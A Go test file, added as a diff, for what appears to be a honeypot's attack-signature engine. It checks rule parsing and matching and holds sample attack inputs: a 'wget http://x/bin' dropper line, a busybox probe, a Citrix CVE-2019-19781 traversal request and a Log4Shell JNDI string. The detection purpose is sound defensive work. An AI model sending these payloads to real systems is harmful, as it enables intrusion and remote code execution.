@@ -0,0 +1,93 @@
+package signatures
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+const testSignatures = `
+signatures:
+  - id: literal
+    tags: [family-a, CVE-2000-0001]
+    patterns:
+      - contains: /bin/busybox
+  - id: hex
+    tags: [family-b]
+    handlers: [smb]
+    patterns:
+      - hex: "ff 53 4d 42"
+  - id: all
+    tags: [family-a]
+    match: all
+    exploit: true
+    patterns:
+      - regex: '^POST /'
+      - contains: wget
+    http_response:
+      status: 404
+      headers: ["Server: Apache"]
+      body: gone
+`
+
+func TestMatch(t *testing.T) {
+	engine, err := Parse(strings.NewReader(testSignatures))
+	require.NoError(t, err)
+	require.Equal(t, 3, engine.Len())
+
+	matches := engine.Match("telnet", []byte("enable\r\n/bin/busybox ECCHI\r\n"))
+	require.Len(t, matches, 1)
+	require.Equal(t, "literal", matches[0].ID)
+	require.False(t, Exploit(matches))
+	require.Nil(t, Responder(matches))
+
+	// handler filter
+	require.Empty(t, engine.Match("tcp", []byte("\xffSMB")))
+	require.Len(t, engine.Match("smb", []byte("\x00\x00\x00\x2f\xffSMBr")), 1)
+
+	// all patterns must match
+	require.Empty(t, engine.Match("http", []byte("GET / HTTP/1.1\r\n\r\nwget")))
+	matches = engine.Match("http", []byte("POST / HTTP/1.1\r\n\r\ncd /tmp; wget http://x/bin; /bin/busybox"))
+	require.Len(t, matches, 2)
+	require.Equal(t, []string{"family-a", "CVE-2000-0001"}, Tags(matches))
+	require.True(t, Exploit(matches))
+	require.Equal(t, "all", Responder(matches).ID)
+	require.Equal(t, "HTTP/1.1 404 Not Found\r\nServer: Apache\r\nContent-Length: 4\r\n\r\ngone", string(Responder(matches).HTTPResponse.Bytes()))
+
+	require.Empty(t, engine.Match("http", nil))
+	var nilEngine *Engine
+	require.Empty(t, nilEngine.Match("http", []byte("/bin/busybox")))
+}
+
+func TestParseInvalid(t *testing.T) {
+	for _, tc := range []string{
+		"signatures:\n  - patterns: [{contains: x}]",
+		"signatures:\n  - id: a\n    patterns: [{contains: x}]\n  - id: a\n    patterns: [{contains: x}]",
+		"signatures:\n  - id: a",
+		"signatures:\n  - id: a\n    patterns: [{contains: x, hex: 00}]",
+		"signatures:\n  - id: a\n    patterns: [{hex: zz}]",
+		"signatures:\n  - id: a\n    patterns: [{regex: '('}]",
+		"signatures:\n  - id: a\n    match: some\n    patterns: [{contains: x}]",
+	} {
+		_, err := Parse(strings.NewReader(tc))
+		require.Error(t, err, tc)
+	}
+
+	engine, err := Parse(strings.NewReader(""))
+	require.NoError(t, err)
+	require.Zero(t, engine.Len())
+}
+
+func TestDefaultSignatures(t *testing.T) {
+	engine, err := Load("../config/signatures.yaml")
+	require.NoError(t, err)
+
+	matches := engine.Match("http", []byte("GET /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\r\n\r\n"))
+	require.Equal(t, []string{"CVE-2019-19781", "citrix"}, Tags(matches))
+	require.True(t, Exploit(matches))
+	require.Equal(t, "citrix-adc-smb-conf", Responder(matches).ID)
+
+	matches = engine.Match("http", []byte("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n\r\n"))
+	require.Equal(t, []string{"CVE-2021-44228", "log4shell"}, Tags(matches))
+}